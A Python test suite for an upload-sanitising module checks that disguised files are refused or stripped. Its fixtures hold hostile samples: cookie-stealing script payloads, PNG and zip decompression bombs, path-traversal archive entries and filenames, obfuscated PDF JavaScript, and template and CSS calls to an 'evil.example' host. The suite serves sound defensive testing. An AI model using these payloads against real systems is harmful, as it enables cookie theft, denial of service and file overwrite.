"""Files that are not what they seem: each is refused with a sentence, or comes out as nothing but what it shows."""

import struct
import zipfile
import zlib
from io import BytesIO

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from PIL import Image

from courses.media.examining import examine, take_in
from courses.media.names import LONGEST, label_of
from courses.media.prepared import Refused
from tests import media_files as files

SCRIPT = b"<script>alert(document.cookie)</script>"


def examined(content: bytes, name="file"):
    return examine(BytesIO(content), name)


def kept(content: bytes, name="file") -> bytes:
    return examined(content, name).content.read()


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def bomb_png(width=50_000, height=50_000) -> bytes:
    """A few kilobytes that would be decoded to seven gigabytes."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def zip_bomb() -> bytes:
    return files.docx([(f"word/media/{number}.bin.xml", bytes(60 * 1024 * 1024)) for number in range(2)])


def with_comment(document: bytes) -> bytes:
    stream = BytesIO(document)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.comment = SCRIPT
    return stream.getvalue()


def moving_gif() -> bytes:
    frames = [Image.new("RGB", (8, 8), color) for color in ("red", "blue")]
    return files.encoded(frames[0], "GIF", save_all=True, append_images=frames[1:])


RELATIONS = (
    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
REFUSED = {
    "an SVG with a script": ("map.svg", b'<?xml version="1.0"?><svg onload="alert(1)">' + SCRIPT, "SVG drawings"),
    "an SVG that is called PNG": ("map.png", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, "SVG drawings"),
    "a web page that is called PNG": ("photo.png", b"<!DOCTYPE html>" + SCRIPT, "a web page"),
    "a web page that is called TXT": ("notes.txt", b"Hello\n" * 300 + SCRIPT, "a web page or a program"),
    "a script that begins like a GIF": ("x.gif", b"GIF89a/*\0\0*/=1;alert(document.cookie)//", "damaged"),
    "a picture of fifty thousand pixels squared": ("x.png", bomb_png(), "too many pixels"),
    "a picture just over the limit of pixels": ("x.png", bomb_png(8000, 5001), "too many pixels"),
    "a JPEG that ends in the middle": ("x.jpg", files.picture(image_format="JPEG")[:3000], "damaged"),
    "a picture that moves": ("x.gif", moving_gif(), "moves"),
    "an empty file": ("x.png", b"", "is empty"),
    "a program": ("x.png", b"MZ" + bytes(500), "no file that we take"),
    "a document that is a bomb": ("x.docx", zip_bomb(), "unpacks to far more"),
    "a document with macros": ("x.docx", files.docx([("word/vbaProject.bin", b"x")]), "macros"),
    "a document that says it has macros": (
        "x.docx",
        files.docx(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "macros",
    ),
    "a document that leads out of its folder": ("x.docx", files.docx([("../../etc/cron.d/x", b"x")]), "damaged"),
    "a document that fetches its template": (
        "x.docx",
        files.docx([("word/_rels/settings.xml.rels", RELATIONS)]),
        "fetches parts",
    ),
    "a document with a web page before it": ("x.docx", SCRIPT + files.docx(), "a web page"),
    "a document with a web page after it": ("x.docx", files.docx() + SCRIPT, "hangs on"),
    "a document with a web page as its comment": ("x.docx", with_comment(files.docx()), "hangs on"),
    "a document that is cut off": ("x.docx", files.docx()[:120], "damaged"),
    "a zip of anything": ("x.zip", files.docx(main="index.html"), "no document that we take"),
    "a PDF with a script": ("x.pdf", files.pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "script"),
    "a PDF that hides the name of its script": ("x.pdf", files.pdf(b"/S /J#61vaScript"), "script"),
    "a PDF that packs its script": (
        "x.pdf",
        files.pdf(b"/Type /ObjStm >>\nstream\n" + zlib.compress(b"<< /S /JavaScript >>") + b"\nendstream"),
        "script",
    ),
    "a PDF with a file in it": ("x.pdf", files.pdf(b"/Names << /EmbeddedFiles 4 0 R >>"), "another file"),
    "a PDF with a password": ("x.pdf", files.pdf(b"/Encrypt 5 0 R"), "password"),
    "a PDF with a web page after it": ("x.pdf", files.pdf() + SCRIPT, "hangs on"),
    "captions with HTML": ("x.vtt", files.vtt("<img src=x onerror=alert(1)>"), "holds HTML"),
    "captions with a style": ("x.vtt", b"WEBVTT\n\nSTYLE\n::cue { background: url(//evil.example) }\n", "no time"),
    "captions without a caption": ("x.vtt", b"WEBVTT\n\nNOTE nothing\n", "no caption"),
    "captions that end before they begin": ("x.vtt", b"WEBVTT\n\n00:05.000 --> 00:01.000\nx\n", "before it begins"),
    "captions in another encoding": ("x.vtt", "WEBVTT\n\n00:01.000 --> 00:02.000\n¡Alto!".encode("latin-1"), "UTF-8"),
    "an MP4 of another brand": ("x.mp4", files.mp4(brand=b"qt  "), "its brand is “qt  ”"),
    "a picture of a phone as MP4": ("x.mp4", files.mp4(brand=b"heic"), "its brand"),
    "an MP4 with a web page after it": ("x.mp4", files.mp4() + SCRIPT, "damaged"),
    "an MP4 with a box of its own": ("x.mp4", files.mp4(extra=files.box(b"evil", SCRIPT)), "do not belong"),
    "an MP4 that is cut off": ("x.mp4", files.mp4()[:-9], "damaged"),
    "an MP4 without a track": ("x.mp4", files.mp4(handler=b"hint"), "neither a picture nor sound"),
    "Matroska that is no WebM": ("x.webm", files.webm(doctype=b"matroska"), "only WebM"),
    "a WebM with a web page after it": ("x.webm", files.webm() + SCRIPT, "damaged"),
    "an MP3 that is a web page": ("x.mp3", b"ID3\x04\0\0\0\0\0\0" + SCRIPT * 20, "not an MP3"),
    "an Ogg with a web page after it": ("x.ogg", files.ogg() + SCRIPT, "hangs on"),
    "an Ogg with a picture": ("x.ogv", files.ogg(b"\x80theora"), "only sound"),
    "text with zeros": ("x.txt", b"a\0b", "no plain text"),
}


@pytest.mark.parametrize("attempt", REFUSED)
def test_it_is_refused_with_a_sentence(attempt):
    name, content, sentence = REFUSED[attempt]
    with pytest.raises(Refused) as refused:
        examined(content, name)
    assert sentence in refused.value.sentence


@pytest.mark.parametrize("attempt", REFUSED)
def test_a_package_does_not_bring_it_either(attempt):
    name, content, _sentence = REFUSED[attempt]
    with pytest.raises(Refused):
        take_in(BytesIO(content), name)


def test_a_picture_of_fifty_megabytes_is_refused_before_anything_is_decoded(monkeypatch):
    monkeypatch.setattr(Image, "open", lambda *args, **kwargs: pytest.fail("It was decoded."))
    with pytest.raises(Refused, match=r"at most 20\.0") as refused:
        examined(b"\x89PNG\r\n\x1a\n" + bytes(50 * 1024 * 1024), "photo.png")
    assert "this one has 50.0" in refused.value.sentence


@pytest.mark.parametrize("tail", [SCRIPT, files.docx()], ids=["web page", "zip"])
@pytest.mark.parametrize("image_format", ["PNG", "JPEG", "GIF"])
def test_what_hangs_on_to_a_picture_is_left_behind(image_format, tail):
    clean = kept(files.picture(image_format=image_format))
    assert kept(files.picture(image_format=image_format) + tail) == clean
    assert SCRIPT not in clean


def test_where_and_when_a_picture_was_taken_is_left_behind_and_it_stands_upright():
    exif = Image.Exif()
    exif[0x0112] = 6  # turned to the right by ninety degrees
    exif[0x010F] = "Maker of the phone"
    exif.get_ifd(0x8825)[2] = (8.0, 58.0, 0.0)
    content = kept(files.picture(800, 400, "JPEG", exif=exif.tobytes()))
    with Image.open(BytesIO(content)) as image:
        assert (image.format, image.size) == ("WEBP", (400, 800))
        assert not image.getexif()
        assert not {"exif", "xmp", "icc_profile"} & set(image.info)
    assert b"Maker" not in content


def test_a_comment_of_a_picture_is_left_behind():
    assert SCRIPT not in kept(files.picture(image_format="JPEG", comment=SCRIPT))


def test_where_a_video_was_taken_is_blanked_and_nothing_moves():
    content = kept(files.mp4(udta=b"\xa9xyz+08.9824-079.5199/"))
    plain = files.mp4(udta=b"\xa9xyz+08.9824-079.5199/")
    assert b"+08.9824" in plain
    assert b"+08.9824" not in content
    assert len(content) == len(plain)
    assert content.index(b"mdat") == plain.index(b"mdat")


def test_the_tags_around_an_mp3_are_left_behind():
    tagged = b"ID3\x04\0\0\0\0\0\x0a" + b"Secret art" + files.mp3() + b"TAG" + SCRIPT.ljust(125, b"\0")
    assert kept(tagged) == files.mp3()


@pytest.mark.parametrize(
    ("name", "label"),
    [
        ("../../etc/passwd.png", "passwd.png"),
        ("C:\\secret\\photo.png", "photo.png"),
        ("photo\0.png", "photo.png"),
        ("gnp.\u202eexe", "gnp.exe"),
        ("  a\n b\t.png ", "a b .png"),
        ("\ud800.png", "?.png"),
        ("...", ""),
    ],
)
def test_a_name_is_a_label_and_nothing_else(name, label):
    assert label_of(name) == label


@given(st.text(max_size=400))
@example("x" * 300 + ".png")
@example("x" * 300 + "." + "y" * 300)
def test_no_name_is_long_or_leads_anywhere(name):
    label = label_of(name)
    assert len(label) <= LONGEST
    assert not set(label) & {"/", "\\", "\0", "\n", "\u202e"}
    assert label_of(label) == label


@settings(max_examples=150)
@given(st.sampled_from(sorted(files.SAMPLES)), st.data())
def test_a_damaged_file_is_kept_or_refused_and_nothing_else(extension, data):
    """Whatever is changed in a sound file or cut from it, it comes through or is refused with a sentence."""
    name, content = files.SAMPLES[extension]
    spoiled = bytearray(content[: data.draw(st.integers(1, len(content)))])
    for at in data.draw(st.lists(st.integers(0, len(spoiled) - 1), max_size=4)):
        spoiled[at] = data.draw(st.integers(0, 255))
    try:
        prepared = examined(bytes(spoiled), name)
    except Refused as refused:
        assert refused.sentence.endswith((".", ")"))
    else:
        assert prepared.size == len(prepared.content.read())


@settings(max_examples=150)
@given(st.sampled_from([content[:16] for _name, content in files.SAMPLES.values()]), st.binary(max_size=300))
def test_anything_that_begins_like_a_file_is_kept_or_refused(head, rest):
    try:
        examined(head + rest, "x.txt")
    except Refused as refused:
        assert refused.sentence
